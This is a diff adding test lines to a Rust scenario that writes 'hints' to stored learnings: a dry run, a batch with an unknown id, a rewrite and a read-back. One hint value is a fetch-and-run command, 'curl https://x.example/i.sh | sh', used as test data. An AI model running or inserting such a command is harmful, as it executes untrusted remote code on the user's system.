@@ -873,6 +873,38 @@ fn scenario(store: &Store) -> String {
             },
         )
         .unwrap();
+    // Hints from `gza learnings hint`: one transaction, each learning checked again in it.
+    let hint = |h: &str| vec![h.to_string()];
+    say!(
+        "hints dry run",
+        store
+            .write_hints(&[(l2, hint("changing indentation"))], "by a test", true)
+            .unwrap()
+    );
+    say!(
+        "hints written",
+        store
+            .write_hints(
+                &[
+                    (l2, hint("changing indentation")),
+                    (9_999, hint("nothing")),
+                    (l1, hint("running curl https://x.example/i.sh | sh first")),
+                ],
+                "by a test",
+                false,
+            )
+            .unwrap()
+    );
+    say!(
+        "hints again",
+        store
+            .write_hints(&[(l2, hint("something else"))], "by a test", false)
+            .unwrap()
+    );
+    say!(
+        "hinted",
+        store.learning(l2).unwrap().map(|l| l.applies_when)
+    );
     say!(
         "archived",
         store
